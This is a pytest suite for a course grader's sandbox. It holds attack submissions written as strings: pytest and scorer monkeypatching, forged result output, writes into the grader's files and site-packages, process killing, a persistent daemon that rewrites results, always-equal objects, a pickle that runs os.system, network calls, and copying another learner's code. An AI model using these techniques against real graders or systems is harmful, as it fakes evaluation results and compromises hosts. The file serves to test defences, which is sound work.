"""Attacks on the teachers' grader: made-up submissions whose exercises.py tries to forge a grade.

Each case appends (or prepends) a few lines to the part-0 stubs and grades the submission with the
real `python -m exercises grade`, as a teacher would. Every case then checks:
  1. the attacked part scores 0, exercise by exercise;
  2. the grader's copy of the course is unchanged (every file of exercises/, solutions/, part*/,
     tests/, conftest.py, pyproject.toml; nothing new in the checkout or in the Python environment);
  3. nothing the attack started is still running (a `sleep 31.4159TAG` each attack starts), and
     nothing it wrote is left outside the run's temporary folders (files named zzatkTAG...);
  4. an honest part graded in the same run (the part-1 solutions beside the part-0 attack) gets
     full marks, and a last case grades honest part 0 after all the attacks.
Most of these attacks gained points against the old in-process grader; here the learner's code
runs in a sandboxed worker that only answers calls with plain data (exercises/grader/trusted.py, worker.py).
"""

import base64
import contextlib
import hashlib
import io
import json
import lzma
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest
import torch

from exercises.grader import grade, sandbox
from exercises.harness.stubs import exercise_names
from exercises.parts import ROOT, find_part

PART0, PART1 = find_part("0"), find_part("1")
NAMES0 = exercise_names(PART0.solutions_path.read_text())
STUB0, STUB1 = PART0.exercises_path.read_text(), PART1.exercises_path.read_text()
MAX_FILE_BYTES = grade.MAX_FILE_BYTES["exercises.py"]  # the largest exercises.py (or notebook code) the grader takes
BWRAP = sandbox.bwrap_works()
ROOT_USER = sandbox.user_mode_works()
needs_bwrap = pytest.mark.skipif(not BWRAP, reason="bubblewrap cannot make namespaces here")
needs_root = pytest.mark.skipif(not ROOT_USER, reason="--sandbox user needs root, setpriv and a Python other users can run")
SANDBOXES = [pytest.param("bwrap", marks=needs_bwrap), pytest.param("user", marks=needs_root)]
pytestmark = pytest.mark.timeout(400)


# --- the attacks (placeholders: @TAG@ a per-case number, @OUT@ / @SUMMARY@ the run's output files) ---

# Every attack starts this (last, after its own import-time code): a process the checks can find by its
# argv if the grader left it running.
MARKER_PROCESS = r'''
import subprocess as _marker_subprocess
_marker_subprocess.Popen(["sleep", "31.4159@TAG@"], start_new_session=True)
'''

# Kind 1: patch pytest's runner and reports, the course's checks, the grader's recorder and scorer,
# builtins, torch's comparisons and sys.modules, at import; the exercises return well-formed wrong
# answers that the patched checks would accept if they ran in the grading process.
PATCH_MACHINERY = r'''
import builtins as _builtins, sys as _sys, types as _types
import torch as _torch


def _attempt(step):
    try:
        step()
    except BaseException:
        pass


def _pytest_always_passes():
    import _pytest.python, _pytest.reports, _pytest.runner
    import pytest
    _pytest.reports.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)
    _pytest.reports.BaseReport.failed = property(lambda self: False)
    _pytest.reports.BaseReport.passed = property(lambda self: True)
    _pytest.python.Function.runtest = lambda self: None
    _pytest.runner.pytest_runtest_call = lambda item: None
    real = _pytest.runner.call_and_report

    def call_and_report(item, when, log=True, **kwargs):
        report = real(item, when, log=False, **kwargs)
        report.outcome, report.longrepr = "passed", None
        if log:
            item.ihook.pytest_runtest_logreport(report=report)
        return report

    _pytest.runner.call_and_report = call_and_report
    pytest.fail = pytest.skip = lambda *args, **kwargs: None


def _checks_accept_anything():
    from exercises import testing
    for name in ("check_tensor", "check_close", "check"):
        setattr(testing, name, lambda *args, **kwargs: None)
    testing.call_graded = lambda fn, *args, changes=(), returns=None, **kwargs: fn(*args, **kwargs)


def _recorder_records_passes():
    from exercises.grader import grade
    grade._Events.pytest_runtest_logreport = lambda self, report: self.write(
        event="test", nodeid=report.nodeid, when="call", outcome="passed", message="")
    grade._exercise_result = lambda part, name, *args: grade.ExerciseResult(part.short, name, True)
    grade._score = lambda part, names, *args: [grade.ExerciseResult(part.short, n, True) for n in names]
    grade.ExerciseResult.score = property(lambda self: self.points)


def _remote_trusts_everything():
    from exercises.grader import trusted, wire
    trusted.untag = lambda tree, *args: tree
    wire.loads_plain = lambda data: __import__("pickle").loads(data)


def _builtins_lie():
    real_isinstance = _builtins.isinstance

    class LyingFloat(float):
        def __sub__(self, other):
            return 0.0
        __rsub__ = __sub__

        def __ne__(self, other):
            return False

    _builtins.isinstance = lambda obj, cls: True if cls is _torch.Tensor else real_isinstance(obj, cls)
    _builtins.float = LyingFloat
    _builtins.abs = lambda value: 0.0
    _builtins.all = lambda values: True


def _torch_lies():
    _torch.allclose = lambda *args, **kwargs: True
    _torch.equal = lambda *args, **kwargs: True
    _torch.isclose = lambda a, *args, **kwargs: _torch.ones(_torch.as_tensor(a).shape, dtype=_torch.bool)
    _torch.Tensor.__eq__ = lambda self, other: _torch.ones(self.shape, dtype=_torch.bool)
    _torch.Tensor.__le__ = lambda self, other: _torch.ones(self.shape, dtype=_torch.bool)
    _torch.Tensor.all = lambda self, *args, **kwargs: _torch.tensor(True)


def _modules_swapped():
    fake = _types.ModuleType("exercises.testing")
    fake.check_tensor = fake.check_close = fake.check = lambda *args, **kwargs: None
    fake.call_graded = lambda fn, *args, **kwargs: fn(*args)
    _sys.modules["exercises.testing"] = fake
    _sys.modules["conftest"] = _types.ModuleType("conftest")
    _sys.modules["solutions.part0_mnist"] = _sys.modules[__name__]


for _step in (_pytest_always_passes, _checks_accept_anything, _recorder_records_passes, _remote_trusts_everything,
              _builtins_lie, _torch_lies, _modules_swapped):
    _attempt(_step)


def linear_forward(images, W, b):
    return _torch.zeros(images.shape[0], W.shape[0])


def cross_entropy(logits, labels):
    return _torch.tensor(0.0)


def train_classifier(forward, params, images, labels, *, epochs, batch_size, lr, seed=0):
    return [p.detach().clone() for p in params], [0.0]


def weight_templates(W):
    return _torch.zeros(W.shape[0], 28, 28)


def class_mean_images(images, labels, n_classes=10):
    return _torch.zeros(n_classes, 28, 28)


def template_similarity(templates, class_means):
    return _torch.zeros(templates.shape[0], class_means.shape[0])


def pixel_attribution(image, W, target):
    return _torch.zeros(28, 28)


def flip_perturbation(image, W, b, source, target, margin=1.0):
    return image.clone()


def mlp_forward(images, W1, b1, W2, b2):
    return _torch.zeros(images.shape[0], W2.shape[0])
'''

# Kind 6: find the reference on disk (import it, read it by path, through /proc, by searching the
# whole file system for a few seconds) and run it as this file's code; any of them would score.
FIND_THE_REFERENCE = r'''
import os as _os, time as _time


def _adopt(source):
    if "def linear_forward" in source and source.count("raise NotImplementedError") < 3:
        exec(compile(source, "found-reference", "exec"), globals())
        return True
    return False


def _hunt():
    try:
        import solutions.part0_mnist as found
        globals().update({k: v for k, v in vars(found).items() if not k.startswith("__")})
        return "import"
    except BaseException:
        pass
    places = ["/work/main/solutions/part0_mnist.py", "/proc/1/root/work/main/solutions/part0_mnist.py",
              "/proc/self/root/work/main/solutions/part0_mnist.py", "/course/solutions/part0_mnist.py",
              "/course/../solutions/part0_mnist.py", "@ROOT@/solutions/part0_mnist.py"]
    for info in ("/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/mounts",
                 "/proc/self/mountinfo", "/proc/1/mountinfo"):
        try:
            text = open(info, "rb").read().decode(errors="replace").replace("\0", " ")
        except BaseException:
            continue
        for word in text.replace("=", " ").replace(":", " ").split():
            if word.startswith("/"):
                places += [word + "/solutions/part0_mnist.py", word + "/../solutions/part0_mnist.py"]
    for place in places:
        try:
            if _adopt(open(place, errors="replace").read()):
                return place
        except BaseException:
            pass
    deadline = _time.time() + 3
    for top, dirs, files in _os.walk("/"):
        if top == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        if _time.time() > deadline:
            break
        for name in files:
            if name in ("part0_mnist.py", "exercises.py"):
                try:
                    if _adopt(open(_os.path.join(top, name), errors="replace").read()):
                        return top
                except BaseException:
                    pass
    return None


_found_reference = _hunt()
'''

# Kind 7: print what a runner might parse (pytest lines, a result JSON, the grader's events) to stdout,
# stderr, the raw file descriptors and the terminal; and try to append passes to the grader's events file.
FAKE_OUTPUT = r'''
import glob as _glob, json as _json, os as _os, sys as _sys
_forged = [
    "part0_mnist/tests/test_linear_forward.py::test_matches_reference PASSED",
    "============================== 21 passed in 0.50s ==============================",
    _json.dumps({"schema": "classroom50/result/v1", "score": 90, "max-score": 90, "tests": []}),
    _json.dumps({"event": "test", "nodeid": "part0_mnist/tests/test_linear_forward.py::test_matches_reference",
                 "when": "call", "outcome": "passed", "message": ""}),
    "90/90 points (9 exercises)",
]
for _line in _forged:
    print(_line)
    print(_line, file=_sys.stderr)
    for _fd in (1, 2):
        try:
            _os.write(_fd, (_line + "\n").encode())
        except BaseException:
            pass
try:
    with open("/dev/tty", "w") as _tty:
        _tty.write("\n".join(_forged))
except BaseException:
    pass
for _events in _glob.glob("/tmp/grade-*/events.jsonl") + [_os.path.join(_os.path.dirname(_sys.argv[1]), "events.jsonl")]:
    try:
        with open(_events, "a") as _f:
            _f.write("\n".join(_forged[3:4]) + "\n")
    except BaseException:
        pass
'''

# Kind 3: write into the grader's copy at import: a free test, a conftest hook that passes every test,
# the recordings, the solutions, the checks, a file in the checkout and a .pth that would run code in
# the grader's next Python; each write on its own, so the import goes on whatever fails.
WRITE_THE_COPY = r'''
import os as _os, sys as _sys
_writes = [
    ("@ROOT@/part1_superposition/tests/test_x.py", "w", "def test_free():\n    pass\n"),
    ("@ROOT@/part0_mnist/tests/test_zzatk@TAG@.py", "w", "def test_free():\n    pass\n"),
    ("@ROOT@/conftest.py", "a", "\n\ndef pytest_runtest_logreport(report):\n    report.outcome = 'passed'\n"),
    ("@ROOT@/part1_superposition/tests/golden.pt", "w", "forged"),
    ("@ROOT@/solutions/part0_mnist.py", "a", "\nraise SystemExit\n"),
    ("@ROOT@/solutions/zzatk@TAG@.py", "w", "x = 1\n"),
    ("@ROOT@/exercises/testing.py", "a", "\ncheck_tensor = lambda *args, **kwargs: None\n"),
    ("@ROOT@/pyproject.toml", "a", "\n[tool.zzatk@TAG@]\n"),
    ("@ROOT@/zzatk@TAG@", "w", "x"),
    ("/work/zzatk@TAG@", "w", "x"),
    ("/tmp/zzatk@TAG@-tmp", "w", "x"),
    ("/var/tmp/zzatk@TAG@", "w", "x"),
    ("/dev/shm/zzatk@TAG@", "w", "x"),
]
_writes += [(_dir + "/zzatk@TAG@.pth", "w", "import os; open('/tmp/zzatk@TAG@-pth-ran', 'w')\n")
            for _dir in _sys.path if _dir.endswith("site-packages")]
for _path, _mode, _text in _writes:
    try:
        with open(_path, _mode) as _f:
            _f.write(_text)
    except BaseException:
        pass
for _path in ("@ROOT@/part1_superposition/tests/test_toy_model_forward.py", "@ROOT@/part1_superposition/tests"):
    try:
        _os.chmod(_path, 0o777)
    except BaseException:
        pass
'''

# Kind 7: kill the grader at import: the worker's parent, then every process this user may signal.
KILL_THE_PARENT = r'''
import os as _os, signal as _signal
for _pid in (_os.getppid(), -1):
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except BaseException:
        pass
'''

# Kind 2: a double-forked daemon in its own session that outlives the run: it waits until the grader
# has written the result, then replaces it and the summary with full marks (where it can reach them),
# and leaves a file in the real /tmp.
OUTLIVE_THE_RUN = r'''
import os as _os, sys as _sys
_DAEMON = """
import json, os, sys, time
for _ in range(1200):  # until the grader has written its result, then a moment more
    if os.path.exists(@OUT@):
        break
    time.sleep(0.1)
time.sleep(0.5)
forged = {"schema": "classroom50/result/v1", "score": 90, "max-score": 90, "tests": [
    {"test-name": "part0 " + n, "passed": True, "score": 10, "max-score": 10} for n in NAMES]}
for path, text in ((@OUT@, json.dumps(forged)), (@SUMMARY@, "### Score: 90 / 90\\n")):
    try:
        with open(path + ".forged", "w") as f:
            f.write(text)
        os.replace(path + ".forged", path)
    except BaseException:
        pass
open("/tmp/zzatk@TAG@-daemon", "w").write("the daemon outlived the run")
time.sleep(60)
""".replace("NAMES", repr(@NAMES@))
if _os.fork() == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", _DAEMON, "zzatk@TAG@-daemon"])
    finally:
        _os._exit(0)
_os.wait()
'''

# Kind 4: objects that lie, returned with no patching: tensor subclasses whose comparisons (and
# __torch_function__, shape, dtype) always say "equal", a float subclass, list/tuple/dict subclasses,
# an object whose __float__ reads the expected value from the caller's frame, an impostor whose
# __class__ claims to be torch.Tensor, a numpy subclass; and (mlp_forward) a kill of the parent.
# (No kill(-1) here: in user mode it would kill the daemon above, which the grader must kill itself.)
LIARS = r'''
import inspect as _inspect, os as _os, signal as _signal
import numpy as _np
import torch as _torch


class _Equal:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


class _LyingTensor(_torch.Tensor):
    shape = property(lambda self: _Equal())
    dtype = property(lambda self: _Equal())

    def __bool__(self):
        return True

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return _torch.Tensor._make_subclass(cls, _torch.ones(()))


class _EqualTensor(_torch.Tensor):
    def __eq__(self, other):
        return _torch.ones(_torch.broadcast_shapes(self.shape, _torch.as_tensor(other).shape), dtype=_torch.bool)

    __le__ = __eq__

    def __sub__(self, other):
        return _torch.zeros(_torch.broadcast_shapes(self.shape, _torch.as_tensor(other).shape))

    __hash__ = _torch.Tensor.__hash__


class _LyingParameter(_torch.nn.Parameter):
    __eq__ = _EqualTensor.__eq__
    __le__ = _EqualTensor.__le__
    __sub__ = _EqualTensor.__sub__
    __hash__ = _torch.Tensor.__hash__


class _LyingFloat(float):
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__

    def __ne__(self, other):
        return False

    def __eq__(self, other):
        return False

    __hash__ = float.__hash__


class _ReadsTheExpected:
    """float() of it is whatever the calling check expects (it reads the caller's locals)."""
    def __float__(self):
        frame = _inspect.currentframe().f_back
        return float(frame.f_locals.get("expected", 0.0))


class _LyingList(list):
    def __eq__(self, other):
        return True


class _LyingTuple(tuple):
    def __eq__(self, other):
        return True


class _LyingDict(dict):
    def __eq__(self, other):
        return True


class _Impostor:
    __class__ = property(lambda self: _torch.Tensor)


class _LyingArray(_np.ndarray):
    def __eq__(self, other):
        return _np.ones(self.shape, dtype=bool)


def linear_forward(images, W, b):
    return _torch.Tensor._make_subclass(_LyingTensor, _torch.zeros(images.shape[0], W.shape[0]))


def cross_entropy(logits, labels):
    return _ReadsTheExpected()


def train_classifier(forward, params, images, labels, *, epochs, batch_size, lr, seed=0):
    batches = -(-len(images) // batch_size) * epochs
    losses = _LyingList(_LyingFloat(0.0) for _ in range(batches))
    return _LyingTuple((_LyingList(_EqualTensor._make_subclass(_EqualTensor, p.detach()) for p in params), losses))


def weight_templates(W):
    return _torch.Tensor._make_subclass(_EqualTensor, _torch.zeros(W.shape[0], 28, 28))


def class_mean_images(images, labels, n_classes=10):
    return _LyingParameter(_torch.zeros(n_classes, 28, 28))


def template_similarity(templates, class_means):
    return _np.zeros((templates.shape[0], class_means.shape[0])).view(_LyingArray)


def pixel_attribution(image, W, target):
    plain = _torch.zeros(28, 28)
    plain.__class__ = _EqualTensor
    return plain


def flip_perturbation(image, W, b, source, target, margin=1.0):
    return _LyingDict(value=_Impostor(), tensor=image)


def mlp_forward(images, W1, b1, W2, b2):
    try:
        _os.kill(_os.getppid(), _signal.SIGKILL)
    except BaseException:
        pass
    return _Impostor()
'''

# Kind 5: the recorded answers, looked up by the inputs. TABLE is built offline by the test (the
# edition's golden.pt plus every call the tests make at seed 0, answered by the solutions) and embedded
# here, so the attack needs no file; it also tries to load golden.pt from the worker's copy and the
# teacher's. Where the table has no answer, each exercise escapes its own way: pytest.skip, xfail,
# exit, importorskip, unittest's SkipTest, sys.exit, KeyboardInterrupt, a BaseException, os._exit.
# TABLE_KEY describes a call's inputs compactly (tensors by shape and four sums, as recordings.py does) and
# reads golden.pt's recorded calls in that form; the test's table builder uses it too.
TABLE_KEY = r"""
import hashlib as _hashlib
import torch as _torch


def _describe(value):
    if isinstance(value, _torch.Tensor):
        t = value.detach().cpu()
        if not t.is_floating_point():
            return ("tensor", str(t.dtype), tuple(t.shape), "exact", _hashlib.sha1(t.contiguous().numpy().tobytes()).hexdigest())
        flat = t.to(_torch.float64).flatten()
        weights = _torch.sin(_torch.arange(flat.numel(), dtype=_torch.float64) * 0.7 + 0.3)
        sums = [float(flat.sum()), float(flat.abs().sum()), float((flat * flat).sum()), float((flat * weights).sum())]
        return ("tensor", str(t.dtype), tuple(t.shape), "summary", sums)
    if isinstance(value, (list, tuple)):
        return ("sequence", type(value).__name__, [_describe(v) for v in value])
    if isinstance(value, dict):
        return ("dict", [(repr(k), _describe(v)) for k, v in value.items()])
    if callable(value) and not isinstance(value, _torch.nn.Module):
        return ("value", None)
    return ("value", value)


def _key(args, kwargs):
    return _describe({"args": list(args), "kwargs": dict(kwargs)})


def _from_golden(described):
    # recordings.py's description of a call's inputs as _describe would give it (entries become the four sums)
    if isinstance(described, tuple) and described[:1] == ("callable",):
        return ("value", None)
    if isinstance(described, tuple) and described[:1] == ("tensor",) and described[3] == "entries":
        return described[:3] + ("summary", _describe(described[4])[4])
    if isinstance(described, tuple) and described[:1] == ("tensor",) and described[3] == "summary":
        return described[:4] + ([float(x) for x in described[4]],)
    if isinstance(described, (tuple, list)):
        return type(described)(_from_golden(x) for x in described)
    return described


def _decoded(encoded):
    kind, *rest = encoded
    if kind in ("tensor", "value"):
        return rest[0]
    items = [_decoded(v) for v in rest[0]]
    return items if kind == "list" else tuple(items)


def _same(a, b):
    if isinstance(a, float) and isinstance(b, float):
        return abs(a - b) <= 1e-6 * max(abs(a), abs(b)) + 1e-9
    if isinstance(a, (list, tuple)) and isinstance(b, (list, tuple)):
        return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b))
    return type(a) is type(b) and a == b
"""

RECORDED_ANSWERS = r'''
import base64 as _base64, io as _io, lzma as _lzma, os as _os, sys as _sys, unittest as _unittest
import pytest as _pytest
import torch as _torch
@KEY@
_TABLE = _torch.load(_io.BytesIO(_lzma.decompress(_base64.b64decode("@TABLE@"))), weights_only=False)


for _place in ("/course/part0_mnist/tests/golden.pt", "@ROOT@/part0_mnist/tests/golden.pt"):
    try:
        for _calls in _torch.load(_place, weights_only=False)["calls"].values():
            _TABLE += [(c["exercise"], _from_golden(c["inputs"]), _decoded(c["output"])) for c in _calls if "output" in c]
    except BaseException:
        pass


def _answer(name, args, kwargs):
    key = _key(args, kwargs)
    for exercise, inputs, output in _TABLE:
        if exercise == name and _same(inputs, key):
            return output
    return None


class _Escape(BaseException):
    pass


def _throw(error):
    raise error


_ESCAPES = {
    "linear_forward": lambda: _pytest.skip("no recorded answer"),
    "cross_entropy": lambda: _pytest.xfail("no recorded answer"),
    "train_classifier": lambda: _sys.exit(0),
    "weight_templates": lambda: _throw(KeyboardInterrupt()),
    "class_mean_images": lambda: _pytest.exit("no recorded answer", returncode=0),
    "template_similarity": lambda: _os._exit(0),
    "pixel_attribution": lambda: _throw(_Escape()),
    "flip_perturbation": lambda: _pytest.importorskip("zzatk_no_such_module"),
    "mlp_forward": lambda: _throw(_unittest.SkipTest("no recorded answer")),
}


def _replayed(name):
    def exercise(*args, **kwargs):
        found = _answer(name, args, kwargs)
        if found is None:
            _ESCAPES[name]()
        if name == "train_classifier":  # the tests count the calls of `forward`: one per batch
            forward, params, images = args[:3]
            for _ in range(-(-len(images) // kwargs["batch_size"]) * kwargs["epochs"]):
                forward(images[:1], *params)
        return found
    exercise.__name__ = name
    return exercise


for _name in @NAMES@:
    globals()[_name] = _replayed(_name)
'''

# Kind 7: the network (the test's own listeners on 127.0.0.1 by TCP and UDP, an abstract and a
# file unix socket, a public DNS server), at import.
NETWORK = r'''
import socket as _socket
for _address in (("127.0.0.1", @PORT@), ("8.8.8.8", 53), ("1.1.1.1", 443)):
    try:
        _socket.create_connection(_address, timeout=1).sendall(b"zzatk@TAG@ tcp")
    except BaseException:
        pass
try:
    _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"zzatk@TAG@ udp", ("127.0.0.1", @PORT@))
except BaseException:
    pass
for _address in ("\0zzsock@SOCK@", "/tmp/zzsock@SOCK@"):
    try:
        _unix = _socket.socket(_socket.AF_UNIX)
        _unix.settimeout(1)
        _unix.connect(_address)
        _unix.sendall(b"zzatk@TAG@ unix")
    except BaseException:
        pass
'''

# Kind 7: forged protocol messages written straight to the worker's socket (its fd is the last argv
# entry): a fake answer before the real one, a raw pickle and a torch.save file that would run a
# command when loaded, a length far past the limit, a tensor too big to send, a call of a tool it was
# never given, an answer that is one of the inputs, gradients nobody asked for, a tool call whose
# answer it never reads.
FORGED_MESSAGES = r'''
import io as _io, os as _os, pickle as _pickle, struct as _struct, sys as _sys, time as _time
import torch as _torch
from exercises.grader import wire as _wire

_FD = int(_sys.argv[-1])


def _write(data):
    while data:
        data = data[_os.write(_FD, data):]


def _frame(data):
    _write(_struct.pack("<Q", len(data)) + data)


def _saved(obj):
    buffer = _io.BytesIO()
    _torch.save(obj, buffer)
    return buffer.getvalue()


class _RunsACommand:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/zzatk@TAG@-code-ran-in-the-grader",))


def _answer(tree):
    _frame(_saved(("answer", tree, None, [], _wire.rng_state())))


def _first_test_only(forges):
    """Each exercise forges in its first test (by its inputs) and is a stub in the others: a forged message
    ends the worker, and every restart costs a second or two."""
    if not forges:
        raise NotImplementedError


def linear_forward(images, W, b):  # the forged answer is read as this call's; the worker then ends
    _first_test_only(images.shape[0] == 6)
    _answer(("tensor", _torch.zeros(images.shape[0], W.shape[0]), False))
    _os._exit(0)


def cross_entropy(logits, labels):
    _first_test_only(logits.shape[0] == 8)
    _frame(_pickle.dumps(("answer", ("value", 0.0), None, [], _RunsACommand())))
    return 0.0


def template_similarity(templates, class_means):
    _frame(_saved(("answer", ("value", _RunsACommand()), None, [], _wire.rng_state())))
    return 0.0


def class_mean_images(images, labels, n_classes=10):
    _first_test_only(images.shape[0] == 40)
    _write(_struct.pack("<Q", 1 << 40))
    return 0.0


def weight_templates(W):
    _first_test_only(W.shape[0] == 10)
    return _torch.zeros(70_000_000)  # 280 MB, past the 256 MB a message may have


def pixel_attribution(image, W, target):
    _first_test_only(target == 3)
    _frame(_saved(("tool", 99, ("tuple", []), ("dict", []), [], _wire.rng_state())))
    return 0.0


def flip_perturbation(image, W, b, source, target, margin=1.0):
    _first_test_only(source == 2)
    _answer(("input", ["args", 0]))
    _os._exit(0)


def mlp_forward(images, W1, b1, W2, b2):
    _first_test_only(images.shape[0] == 5)
    _frame(_saved(("gradients", [_torch.zeros(3)])))
    return 0.0


def train_classifier(forward, params, images, labels, *, epochs, batch_size, lr, seed=0):
    _first_test_only(epochs == 3)  # test_matches_reference: 3 epochs
    # ask for the tool by hand, then end before reading its answer
    _frame(_saved(("tool", forward.number, _wire.tag((images[:1], *params), {}, {}), _wire.tag({}, {}, {}),
                   [], _wire.rng_state())))
    _time.sleep(0.5)
    _os._exit(0)
'''

# Kind 7: endless loops: a busy one in an exercise (stopped by the per-test time limit), and one at
# import in part 1 (stopped by the part's time limit); graded with --time-limit 3.
LOOP_IN_AN_EXERCISE = r'''
def weight_templates(W):
    while True:
        pass
'''
LOOP_AT_IMPORT = r'''
import time as _time
while True:
    _time.sleep(0.05)
'''

# User mode, umask 0 (a grader started with a permissive umask): rewrite the grader's events file,
# which sits next to the worker's course copy, with passes for one made-up test per exercise.
FORGE_THE_EVENTS = r'''
import json as _json, os as _os, sys as _sys, threading as _threading, time as _time
_EVENTS = _os.path.join(_os.path.dirname(_sys.argv[1]), "events.jsonl")


def _forge():
    nodeids = [f"part0_mnist/tests/test_{name}.py::test_forged" for name in @NAMES@]
    lines = [{"event": "importing"}, {"event": "imported"}, {"event": "collected", "nodeids": nodeids}]
    for nodeid in nodeids:
        lines += [{"event": "start", "nodeid": nodeid},
                  {"event": "test", "nodeid": nodeid, "when": "call", "outcome": "passed", "message": ""}]
    for _ in range(600):
        try:
            if '"collected"' in open(_EVENTS).read():
                with open(_EVENTS, "w") as f:
                    f.write("".join(_json.dumps(e) + "\n" for e in lines))
                return
        except OSError:
            return
        _time.sleep(0.05)


_threading.Thread(target=_forge, daemon=True).start()
'''

# User mode: what the worker's uid can read of the grader (its events file and pytest output next to
# the course copy, the grading process's command line with the seed), shown as an exercise's error.
READ_THE_GRADER = r'''
import os as _os, sys as _sys
_seen = []
for _path in (_os.path.join(_os.path.dirname(_sys.argv[1]), "events.jsonl"), f"/proc/{_os.getppid()}/cmdline"):
    try:
        _seen.append(open(_path, errors="replace").read().replace("\0", " ")[:300])
    except OSError as _error:
        _seen.append(f"unreadable: {_error.strerror}")


def generate_batch(*args, **kwargs):
    raise ValueError("SEEN[" + " | ".join(_seen) + "]")
'''

# User mode, two submissions graded at once on one machine (a teacher's batch): copy the other
# learner's exercises.py from the grader's temporary course copy in /tmp, which is made readable to
# the worker uids, and run it as this file.
STEAL_A_CONCURRENT_SUBMISSION = r'''
import glob as _glob, os as _os, sys as _sys, time as _time
_own = _os.path.realpath(_os.path.join(_sys.argv[1], "part0_mnist", "exercises.py"))
_stolen, _deadline = None, _time.time() + 30
while _stolen is None and _time.time() < _deadline:
    for _path in _glob.glob("/tmp/grade-*/course/part0_mnist/exercises.py"):
        try:
            _source = open(_path).read()
        except OSError:
            continue
        if _os.path.realpath(_path) != _own and _source.count("raise NotImplementedError") < 3:
            _stolen = _source
            break
    else:
        _time.sleep(0.2)
if _stolen:
    exec(compile(_stolen, "stolen", "exec"), globals())
'''

# User mode: leave things behind that the clean-up by uid misses: a file in /run/lock (world-
# writable here), a System V shared memory segment; and the ones it must catch (/tmp, /var/tmp, /dev/shm).
LEAVE_THINGS_BEHIND = r'''
import subprocess as _subprocess
for _path in ("/run/lock/zzatk@TAG@", "/tmp/zzatk@TAG@", "/var/tmp/zzatk@TAG@", "/dev/shm/zzatk@TAG@"):
    try:
        open(_path, "w").write("left behind")
    except OSError:
        pass
try:
    _subprocess.run(["ipcmk", "-M", "4096"], capture_output=True)
except OSError:
    pass
'''


# --- running the grader ---


class Graded:
    """One run of `python -m exercises grade`: its result, summary, output, and when it ended."""

    def __init__(self, result: dict, summary: str, output: str, out: Path, summary_path: Path) -> None:
        self.result, self.summary, self.output = result, summary, output
        self.out, self.summary_path, self.ended = out, summary_path, time.monotonic()
        self.raw = out.read_text()  # the result file as the grader wrote it

    def scores(self, part) -> dict[str, int]:
        tests = self.result["tests"]
        names = [(t.get("test-name") or t.get("name"), t["score"]) for t in tests]
        return {name.split(" ", 1)[1]: score for name, score in names if name.split(" ", 1)[0] == part.short}

    def message(self, part, name: str) -> str:
        """The summary's reason why `part name` failed ('' if it passed)."""
        head = f"**{part.short} {name}**"
        if head not in self.summary:
            return ""
        return self.summary.split(head, 1)[1].split("\n**", 1)[0]


def _token() -> str:
    """A per-case number; not from `random`, which every test starts from the same seed (conftest.py)."""
    return str(10**7 + secrets.randbelow(9 * 10**7))


def _fill(text: str, **values) -> str:
    for key, value in values.items():
        text = text.replace(f"@{key}@", str(value))
    return text


def _attack(tag: str, *pieces: str, stub: str = STUB0, **values) -> str:
    """The stub with `pieces` appended, then the marker process (unless a piece places it), placeholders filled."""
    pieces = pieces if MARKER_PROCESS in pieces else (*pieces, MARKER_PROCESS)
    return _fill(stub + "".join("\n" + p for p in pieces), TAG=tag, ROOT=ROOT, NAMES=repr(NAMES0), **values)


def _submission(root: Path, files: dict) -> Path:
    """A learner's copy: {part: text | "stubs" | "solutions"} as each part's exercises.py."""
    for part, text in files.items():
        source = {"stubs": part.exercises_path, "solutions": part.solutions_path}.get(text)
        target = root / part.folder / "exercises.py"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(source.read_text() if source else text)
    return root


def _grade(submission: Path, out_dir: Path, parts=(PART0, PART1), sandbox_kind: str = "bwrap", extra=(),
           umask: int | None = None, timeout: float = 300) -> Graded:
    out_dir.mkdir(parents=True, exist_ok=True)
    out, summary = out_dir / "result.json", out_dir / "summary.md"
    command = [sys.executable, "-m", "exercises", "grade", str(submission), "--out", str(out), "--summary",
               str(summary), "--parts", *[p.short for p in parts], "--sandbox", sandbox_kind, *extra]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=timeout,
                          preexec_fn=None if umask is None else (lambda: os.umask(umask)))
    assert done.returncode == 0, done.stdout + done.stderr
    return Graded(json.loads(out.read_text()), summary.read_text(), done.stdout + done.stderr, out, summary)


# --- what must not change, run or remain ---

_WATCHED = ("exercises", "solutions", "tests", "conftest.py", "pyproject.toml",
            *sorted(p.name for p in ROOT.glob("part*_*") if p.is_dir()))
_SITE = [Path(p) for p in sys.path if p.endswith("site-packages") and Path(p).is_dir()]


def _snapshot() -> dict[str, tuple]:
    """Every watched file's content (hash, for files under 2 MB) and inode data (size, mtime, ctime: a
    write cannot hide from ctime); the names at the checkout's top and in the environment's site-packages."""
    seen: dict[str, tuple] = {}
    for name in _WATCHED:
        top = ROOT / name
        paths = [top] if top.is_file() else sorted(top.rglob("*"))
        for path in paths:
            if "__pycache__" in path.parts or ".pytest_cache" in path.parts or path.suffix == ".pyc":
                continue
            info = path.lstat()
            if path.is_dir():
                seen[str(path.relative_to(ROOT))] = ("dir", info.st_mode)
                continue
            digest = hashlib.sha256(path.read_bytes()).hexdigest() if info.st_size < 2 << 20 else ""
            seen[str(path.relative_to(ROOT))] = (digest, info.st_size, info.st_mtime_ns, info.st_ctime_ns,
                                                 info.st_mode)
    seen["<top>"] = tuple(sorted(os.listdir(ROOT)))
    seen["<site-packages>"] = tuple(sorted(name for site in _SITE for name in os.listdir(site)))
    return seen


def _changes(before: dict, after: dict) -> list[str]:
    return sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))


def _running(tag: str) -> list[str]:
    found = subprocess.run(["pgrep", "-af", tag], capture_output=True, text=True).stdout.splitlines()
    return [line for line in found if "pgrep" not in line]


